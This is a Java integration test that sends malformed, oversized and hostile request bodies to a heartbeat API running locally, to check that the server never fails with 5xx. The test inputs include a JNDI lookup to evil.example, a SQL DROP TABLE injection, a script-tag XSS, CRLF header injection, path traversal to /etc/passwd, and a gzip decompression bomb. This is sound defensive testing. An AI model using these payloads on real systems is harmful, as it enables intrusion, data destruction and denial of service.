package dev.wolverine.web;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.management.OperatingSystemMXBean;
import dev.wolverine.db.model.Role;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.lang.management.ManagementFactory;
import java.net.Socket;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Bad bodies at the real HTTP server: 200 or 202 for what is JSON, 4xx for what is not, never 5xx.
 */
class BadInputOverHttpIT {

    private static final String HEARTBEAT = "/api/v1/heartbeat";

    /** Of the whole process, for a bomb of a gibibyte: unpacking all of it takes seconds. */
    private static final long MAX_CPU_MILLIS = 500;

    private static TestPlatform platform;
    private static String key;
    private static ApiClient instance;

    private final long now = System.currentTimeMillis();

    @BeforeAll
    static void start() {
        platform = TestPlatform.start();
        key = platform.key(Role.INGEST);
        instance = new ApiClient(platform, new Contract()).withKey(key);
    }

    @AfterAll
    static void stop() {
        platform.close();
    }

    @AfterEach
    void aGoodBeatIsStillStored() {
        String beat = Beats.beat("wlv_good", System.currentTimeMillis(), 1).encode();
        assertThat(instance.post(HEARTBEAT, beat).statusCode()).isEqualTo(200);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "\\u0000",
                "\\ud800",
                "\\udc00x",
                "\uFFFF\uFFFE",
                "\u202Egpj.exe",
                "a\u200Bb",
                "__proto__",
                "constructor",
                "=CMD()",
                "<script>alert(1)</script>",
                "'; DROP TABLE heartbeats; --",
                "${jndi:ldap://evil.example/a}",
                "\\u001b[2J",
                "x\\r\\nSet-Cookie: a=b",
                "../../etc/passwd",
                "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67"
            })
    void anyTextIsStoredAsNameKeyAndUnknownValue(String text) {
        String body =
                """
                {"instanceId":"wlv_text","timestamp":%d,"server":{"name":"%2$s"},
                 "usage":{"byModel":{"%2$s":{"calls":1}}},"%2$s":{"%2$s":["%2$s"]}}
                """
                        .formatted(now + text.hashCode() % 1_000, text);
        assertThat(instance.post(HEARTBEAT, body).statusCode()).isEqualTo(200);
    }

    @Test
    void bytesThatAreNoUtf8AreMended() {
        byte[] body =
                ("{\"instanceId\":\"wlv_latin\",\"timestamp\":"
                                + now
                                + ",\"server\":{\"name\":\"caf\u00E9\"}}")
                        .getBytes(StandardCharsets.ISO_8859_1);
        assertThat(send(instance, body).statusCode()).isEqualTo(200);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "[                                 | 400",
                "NaN                               | 400",
                "{\"timestamp\":NaN}               | 400",
                "{\"timestamp\":1e400}             | 202",
                "{\"a\":1,\"a\":2}                 | 202",
                "[1]                               | 202",
                "\"text\"                          | 202",
                "{\"instanceId\":\"wlv a\"}        | 202",
                "{\"timestamp\":\"now\"}           | 202"
            })
    void whatIsNoHeartbeatIsKeptAsideOrRefused(String body, int status) {
        assertThat(instance.post(HEARTBEAT, body).statusCode()).isEqualTo(status);
    }

    @Test
    void whatIsTooDeepIsKeptAside() {
        String body = "{\"x\":" + "[".repeat(10_000) + "]".repeat(10_000) + "}";
        HttpResponse<String> answer = instance.post(HEARTBEAT, body);
        assertThat(answer.statusCode()).isEqualTo(202);
        assertThat(answer.body()).contains("too_deep");
    }

    @Test
    void aBombOfAGibibyteIsRefusedForLittle() throws IOException {
        byte[] part = gzip(new byte[16 << 20]);
        ByteArrayOutputStream bomb = new ByteArrayOutputStream();
        for (int i = 0; i < 64; i++) {
            bomb.writeBytes(part);
        }
        assertThat(bomb.size()).isLessThan(1 << 21);
        OperatingSystemMXBean process =
                (OperatingSystemMXBean) ManagementFactory.getOperatingSystemMXBean();
        byte[] body = Arrays.copyOf(bomb.toByteArray(), Math.min(bomb.size(), 1_000_000));
        long least = Long.MAX_VALUE;
        for (int run = 0; run < 3; run++) {
            long before = process.getProcessCpuTime();
            assertThat(packed("gzip", body).statusCode()).isEqualTo(413);
            least = Math.min(least, process.getProcessCpuTime() - before);
        }
        System.out.printf(
                "bad input: a bomb of %d bytes took %.1f ms of CPU%n", body.length, least / 1e6);
        assertThat(least / 1_000_000).isLessThan(MAX_CPU_MILLIS);
    }

    @Test
    void whatIsPackedTwiceIsNoJson() throws IOException {
        byte[] beat = Beats.beat("wlv_twice", now, 1).encode().getBytes(StandardCharsets.UTF_8);
        assertThat(packed("gzip", gzip(beat)).statusCode()).isEqualTo(200);
        assertThat(packed("gzip", gzip(gzip(beat))).statusCode()).isEqualTo(400);
    }

    @Test
    void whatIsPackedAndCutOrSpoiledIsRefused() throws IOException {
        byte[] packed =
                gzip(Beats.beat("wlv_cut", now, 1).encode().getBytes(StandardCharsets.UTF_8));
        for (int length = 0; length < packed.length; length += 7) {
            assertThat(packed("gzip", Arrays.copyOf(packed, length)).statusCode())
                    .as("%d bytes", length)
                    .isEqualTo(400);
        }
        for (int at = 0; at < packed.length; at += 11) {
            byte[] spoiled = packed.clone();
            spoiled[at] ^= 0x5A;
            assertThat(packed("gzip", spoiled).statusCode()).as("byte %d", at).isIn(200, 400, 413);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"br", "deflate", "zstd", "compress", "gzip, gzip", "gzip,br", "\"\"", "x"})
    void anEncodingThatNobodyKnowsIsRefused(String encoding) throws IOException {
        byte[] beat = gzip(Beats.beat("wlv_enc", now, 1).encode().getBytes(StandardCharsets.UTF_8));
        assertThat(packed(encoding, beat).statusCode()).isEqualTo(415);
    }

    @ParameterizedTest
    @CsvSource({"GZIP, 200", "x-gzip, 200"})
    void gzipIsKnownByItsOtherNames(String encoding, int status) throws IOException {
        byte[] beat =
                gzip(
                        Beats.beat("wlv_" + encoding, now, 1)
                                .encode()
                                .getBytes(StandardCharsets.UTF_8));
        assertThat(packed(encoding, beat).statusCode()).isEqualTo(status);
    }

    @ParameterizedTest
    @ValueSource(strings = {"\u00FF\u00FE", "\u00ED\u00A0\u0080", "a b", "a\tb", "\u007F"})
    void anInstanceHeaderThatNamesNobodyIsKeptAside(String header) throws IOException {
        byte[] body = Beats.beat("wlv_header", now, 1).encode().getBytes(StandardCharsets.UTF_8);
        String head =
                "POST /api/v1/heartbeat HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAuthorization: Bearer "
                        + key
                        + "\r\nX-Instance-Id: "
                        + header
                        + "\r\nContent-Length: "
                        + body.length
                        + "\r\n\r\n";
        try (Socket socket = new Socket("127.0.0.1", platform.port())) {
            socket.setSoTimeout(10_000);
            socket.getOutputStream().write(head.getBytes(StandardCharsets.ISO_8859_1));
            socket.getOutputStream().write(body);
            InputStream answer = socket.getInputStream();
            assertThat(new String(answer.readNBytes(12), StandardCharsets.ISO_8859_1))
                    .isIn("HTTP/1.1 202", "HTTP/1.1 400");
        }
    }

    private static HttpResponse<String> packed(String encoding, byte[] body) {
        return send(instance.with("Content-Encoding", encoding), body);
    }

    private static HttpResponse<String> send(ApiClient client, byte[] body) {
        return client.with("Content-Type", "application/json")
                .send("POST", HEARTBEAT, HttpRequest.BodyPublishers.ofByteArray(body));
    }

    private static byte[] gzip(byte[] body) throws IOException {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(packed)) {
            gzip.write(body);
        }
        return packed.toByteArray();
    }
}
